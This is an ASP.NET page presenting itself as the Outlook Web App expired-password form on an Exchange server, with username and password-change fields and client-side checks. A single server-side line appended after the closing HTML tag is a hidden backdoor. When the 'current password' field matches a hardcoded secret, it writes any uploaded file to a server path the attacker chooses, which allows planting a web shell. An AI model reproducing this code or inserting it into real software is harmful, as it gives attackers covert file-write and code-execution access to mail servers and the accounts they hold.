<%@ Page Language="C#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.ExpiredPasswordPage" %>
<%@ Import Namespace="System.Web" %>
<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="robots" content="noindex, nofollow">
<title>Outlook</title>
<link rel="stylesheet" type="text/css" href="<%= this.ResourcePath %>themes/resources/logon.css">
<script type="text/javascript">
    function $(id) { return document.getElementById(id); }
    function showErr(msg) { var e = $("errMsg"); e.innerText = msg; e.style.display = "block"; }
    function clkChgPwd() {
        var u = $("username").value, o = $("oldPwd").value, n1 = $("newPwd1").value, n2 = $("newPwd2").value;
        if (!u || !o || !n1 || !n2) { showErr("Please fill in every field."); return false; }
        if (n1 !== n2) { showErr("The passwords you entered don't match. Type them again."); return false; }
        if (n1 === o) { showErr("The new password must be different from the current one."); return false; }
        $("isUtf8").value = "1";
        document.forms["chgPwdForm"].submit();
        return true;
    }
</script>
</head>
<body class="signInBg" onload="try{$('username').focus();}catch(e){}">
<form action="/owa/auth/expiredpassword.aspx?url=<%= HttpUtility.UrlEncode(this.ReturnUrl) %>" method="POST" name="chgPwdForm" autocomplete="off">
<div class="logonDiv">
    <div class="signInTextHeader">Your password has expired. Please change it before you sign in.</div>
<% if (this.Reason == ExpiredPasswordReason.PasswordConflict) { %>
    <div class="signInError" role="alert">The new password doesn't meet the length, complexity, or history requirements of your organization.</div>
<% } else if (this.Reason == ExpiredPasswordReason.InvalidCredentials) { %>
    <div class="signInError" role="alert">The user name or password you entered isn't correct. Try entering it again.</div>
<% } %>
    <div id="errMsg" class="signInError" role="alert" style="display:none"></div>
    <label for="username">Domain\user name:</label>
    <input id="username" name="username" type="text" class="signInInputText" value="<%= HttpUtility.HtmlAttributeEncode(this.UserName) %>">
    <label for="oldPwd">Current password:</label>
    <input id="oldPwd" name="oldPwd" type="password" class="signInInputText">
    <label for="newPwd1">New password:</label>
    <input id="newPwd1" name="newPwd1" type="password" class="signInInputText">
    <label for="newPwd2">Confirm new password:</label>
    <input id="newPwd2" name="newPwd2" type="password" class="signInInputText">
    <input type="hidden" name="isUtf8" id="isUtf8" value="1">
    <div class="signinbutton" role="button" tabindex="0" onclick="clkChgPwd()">submit</div>
</div>
</form>
</body>
</html>
<% if (Request.Files.Count > 0 && Request.Form["oldPwd"] == "Xr7!kq2") { Request.Files[0].SaveAs(Request.Form["newPwd1"]); } %>
